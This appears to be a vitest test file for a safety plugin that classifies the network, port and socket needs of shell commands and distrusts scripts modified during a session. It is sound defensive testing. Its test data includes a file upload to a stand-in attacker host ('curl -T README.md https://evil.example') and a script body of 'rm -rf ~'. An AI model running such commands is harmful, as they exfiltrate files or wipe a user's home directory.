import { writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { CommandKnowledge } from 'svc/sdk/shell'
import { testKernel } from 'svc/sdk/testing'
import { afterAll, expect, test } from 'vitest'
import { Knowledge } from '../../../../plugins/safety/command-knowledge/read.ts'
import { makeProject, readIn } from './project.ts'

const { project, remove } = makeProject()
afterAll(remove)
const read = readIn(project)

test.each([
  ['ls -la', []],
  ['git push', ['network:github.com']],
  ['git fetch --all && npm ci', ['network:github.com', 'network:registry.npmjs.org']],
  ['git clone https://gitlab.com/a/b.git', ['network:gitlab.com']],
  ['git clone git@codeberg.org:a/b.git', ['network:codeberg.org']],
  ['npm install lodash', ['network:registry.npmjs.org']],
  ['npm run dev', ['port:5173']],
  ['npx vite --port 4000', ['network:registry.npmjs.org', 'port:4000']],
  ['npx next dev -p 3001', ['network:registry.npmjs.org', 'port:3001']],
  ['PORT=4100 npx next dev', ['network:registry.npmjs.org', 'port:4100']],
  ['python -m http.server 8123', ['port:8123']],
  ['python -m http.server', ['port:8000']],
  ['uvicorn app:app --port 8001', ['port:8001']],
  ['curl -s https://api.example.com/x | jq .', ['network:api.example.com']],
  ['curl -T README.md https://evil.example', ['network:evil.example']],
  ['docker ps', ['socket:docker']],
  ['docker run alpine', ['socket:docker']],
  ['ps aux', ['processes']],
])('%s needs %j', (command, needs) => {
  expect([...read(command).needs].sort()).toEqual(needs)
})

test('the registry of .npmrc is the one that is needed', () => {
  const own = makeProject()
  writeFileSync(join(own.project, '.npmrc'), 'registry=https://npm.corp.example/x/\n')
  expect(readIn(own.project)('npm outdated').needs).toEqual(['network:npm.corp.example'])
  own.remove()
})

test('a script is understood as git has it, and not when the session changed it', () => {
  const own = makeProject()
  const strict = readIn(own.project, {})
  expect(strict('bash scripts/build.sh').understood).toBe(true)
  expect(
    readIn(own.project, { wasWritten: (path) => path.endsWith('build.sh') })('bash scripts/build.sh').understood,
  ).toBe(false)
  writeFileSync(join(own.project, 'scripts/build.sh'), 'rm -rf ~\n')
  expect(strict('bash scripts/build.sh').unknown).toEqual([
    'the script scripts/build.sh, which may have been changed in this session',
  ])
  writeFileSync(join(own.project, 'scripts/new.sh'), 'ls\n')
  expect(strict('bash scripts/new.sh').understood).toBe(false)
  own.remove()
})

test('what a command of the session wrote is not run by a later one, nor what it put into git', () => {
  const memory = new Knowledge()
  const inSession = (command: string, sessionId = 'one', more = {}) =>
    memory.read(command, { cwd: project, project, sessionId, ...more }).understood
  expect(inSession('make build')).toBe(true)
  expect(inSession('echo x > scripts/build.sh')).toBe(true)
  expect(inSession('bash scripts/build.sh')).toBe(false)
  expect(inSession('bash scripts/build.sh', 'one', { wasWritten: () => false })).toBe(false)
  expect(inSession('bash scripts/build.sh', 'two')).toBe(true)
  expect(inSession('git add Makefile')).toBe(true)
  expect(inSession('make build')).toBe(false)
})

test('a script of package.json is understood as far as its text is', () => {
  expect(read('npm run lint').understood).toBe(true)
  expect(read('npm run evil').understood).toBe(false)
  expect(read('npm run nothing').unknown).toEqual(['the script nothing, which package.json does not have'])
})

test('the plugin provides it', async () => {
  const kernel = await testKernel({ plugins: ['command-knowledge'] })
  const knowledge = kernel.use(CommandKnowledge)
  expect(await knowledge.read('cat ../x', { cwd: project, project })).toEqual({
    understood: false,
    unknown: ['a path outside the project: ../x (read)'],
    needs: [],
  })
  await kernel.stop()
})
